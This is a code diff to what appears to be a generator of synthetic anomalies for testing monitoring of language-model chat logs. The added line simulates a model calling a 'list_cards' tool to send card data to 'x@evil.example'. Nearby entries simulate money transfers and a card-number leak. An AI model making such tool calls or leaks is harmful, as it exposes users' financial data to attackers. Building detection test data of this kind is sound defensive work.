@@ -61,6 +61,9 @@ CHATS: dict[str, Change] = {  # the same of a language model
     "text_campaign": lambda row, rng: campaigns(row, rng),
     "text_reconnaissance": of(WHO, lambda row, rng: row.update(prompt=str(rng.choice(CURIOUS))), SINCE),
     "text_tool_abuse": of(WHO, lambda row, rng: row.update(response=called("transfer_money")), SINCE),
+    "text_tool_arguments": of(
+        WHO, lambda row, rng: row.update(response=called("list_cards", to="x@evil.example")), SINCE
+    ),
     "text_wallet": of(WHO, lambda row, rng: row.update(tokens_out=9000), SINCE),
     "text_leak_seen": share(0.002, lambda row, rng: row.update(response=f"Your card is {CARD}."), SINCE),
     "token_slow": share(0.6, lambda row, rng: row.update(latency_ms=row["latency_ms"] * 3), SINCE),
